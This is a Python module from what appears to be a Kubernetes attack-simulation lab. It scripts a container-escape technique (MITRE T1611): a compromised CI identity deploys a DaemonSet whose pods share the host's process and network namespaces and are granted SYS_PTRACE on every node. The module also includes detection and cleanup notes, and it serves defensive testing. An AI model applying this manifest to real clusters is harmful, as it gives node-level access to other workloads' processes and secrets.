"""Attack: host's processes shared with a daemon set.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="hostpid-daemonset",
    title="Host's processes shared with a daemon set",
    technique=base.Technique(id="T1611", name="Escape to Host", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does="Puts one pod on each node that shares the host's processes and network and may trace them.",
    seen_by="A daemon set whose template sets hostPID and hostNetwork and adds SYS_PTRACE.",
    cleans_up="The daemon set is deleted.",
    victim=base.Part.CI,
    catalogues=("Microsoft: New Container",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    name = ctx.name("node-agent")
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    sets = paths.group("apps/v1", "daemonsets", namespace)
    ctx.remove_later(f"{sets}/{name}")
    container = {
        "name": "agent",
        "image": "docker.io/library/alpine:3.22",
        "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}},
    }
    labels = {"app": name}
    body = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name},
        "spec": {
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {"hostPID": True, "hostNetwork": True, "containers": [container]},
            },
        },
    }
    yield thief.create(sets, body)
    yield thief.get(f"{sets}/{name}")


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
